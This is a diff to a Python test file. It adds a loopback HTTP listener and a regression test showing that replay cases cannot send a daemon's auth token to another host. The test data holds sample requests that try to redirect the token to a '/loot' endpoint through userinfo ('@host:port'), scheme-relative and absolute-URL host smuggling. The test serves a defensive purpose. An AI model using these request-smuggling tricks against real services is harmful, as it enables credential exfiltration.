@@ -2,18 +2,23 @@
 
 from __future__ import annotations
 
+import http.server
 import json
 import os
 import shutil
 import socket
 import subprocess
+import threading
+from collections.abc import Iterator
 from pathlib import Path
+
+import pytest
 
 from bridge.config import settings_from_raw
 from bridge.config_file import read_raw
 from bridge.handlers.vdds_push import mmi_path
 from bridge.replay import write_fresh_config
-from tests.conftest import pms_bridge_command
+from tests.conftest import DaemonProcess, pms_bridge_command
 
 SAMPLES = Path(__file__).resolve().parent.parent / "samples"
 
@@ -152,3 +157,70 @@ def test_a_malformed_case_json_is_an_error_row_and_the_other_cases_still_run(tmp
     assert "ERROR" in row and "case.json" in row
     assert "  pass  " in table_row(result, "vdds/stage1-no-birth-date")
     assert "Traceback" not in result.stderr
+
+
+@pytest.fixture
+def listener() -> Iterator[tuple[int, list[str]]]:
+    """A plain HTTP server on a loopback port that records every request it gets (line and headers)."""
+    received: list[str] = []
+
+    class Record(http.server.BaseHTTPRequestHandler):
+        def do_GET(self) -> None:
+            received.append(f"{self.requestline}\n{self.headers}")
+            self.send_response(200)
+            self.send_header("Content-Length", "0")
+            self.end_headers()
+
+        def log_message(self, *args: object) -> None:
+            pass
+
+    server = http.server.HTTPServer(("127.0.0.1", 0), Record)
+    thread = threading.Thread(target=server.serve_forever, daemon=True)
+    thread.start()
+    try:
+        yield server.server_address[1], received
+    finally:
+        server.shutdown()
+        server.server_close()
+
+
+def write_case(root: Path, name: str, steps: list[dict[str, object]], files: dict[str, bytes]) -> None:
+    case = root / name
+    case.mkdir(parents=True)
+    (case / "case.json").write_text(json.dumps({"steps": steps}), encoding="utf-8")
+    for file_name, data in files.items():
+        (case / file_name).write_bytes(data)
+
+
+def test_a_case_cannot_send_the_daemons_token_to_another_host(
+    daemon: DaemonProcess, tmp_path: Path, listener: tuple[int, list[str]]
+) -> None:
+    # A case is someone else's capture; its requests go out with the daemon's token, so each must stay on
+    # the daemon: "@host:port/x" pasted onto "http://127.0.0.1:4435" named the host as a user name before.
+    port, received = listener
+    samples = tmp_path / "samples"
+    http_step = {"transport": "http", "request": "request.http", "expect": {"status": 200}}
+    elsewhere = {
+        "oppweb/userinfo": f"GET @127.0.0.1:{port}/loot HTTP/1.1\r\nX-Note: {{token}}\r\n\r\n",
+        "rest/userinfo": f"GET @127.0.0.1:{port}/loot HTTP/1.1\r\nX-Note: {{token}}\r\n\r\n",
+        "rest/scheme-relative": f"GET //127.0.0.1:{port}/loot HTTP/1.1\r\n\r\n",
+        "rest/absolute": f"GET http://127.0.0.1:{port}/loot HTTP/1.1\r\n\r\n",
+    }
+    for name, request in elsewhere.items():
+        step = {**http_step, "listener": "opp_web" if name.startswith("oppweb/") else "api"}
+        write_case(samples, name, [step], {"request.http": request.encode()})
+    write_case(samples, "rest/api-step", [{"transport": "api", "path": f"@127.0.0.1:{port}/loot"}], {})
+    write_case(samples, "rest/given", [], {})  # a given step is sent with the token as well
+    given = json.loads((samples / "rest/given/case.json").read_text(encoding="utf-8"))
+    given["given"] = [{"transport": "api", "path": f"//127.0.0.1:{port}/loot"}]
+    (samples / "rest/given/case.json").write_text(json.dumps(given), encoding="utf-8")
+    write_case(samples, "rest/healthz", [http_step], {"request.http": b"GET /healthz HTTP/1.1\r\n\r\n"})
+
+    result = replay(str(samples), "--config", str(daemon.config))
+    assert result.returncode == 1, result.stdout + result.stderr
+    for name in [*elsewhere, "rest/api-step", "rest/given"]:
+        row = table_row(result, name)
+        assert "ERROR" in row and "/loot" in row, result.stdout
+    assert "  pass  " in table_row(result, "rest/healthz")  # a path on the daemon still runs
+    assert received == []
+    assert daemon.token not in result.stdout
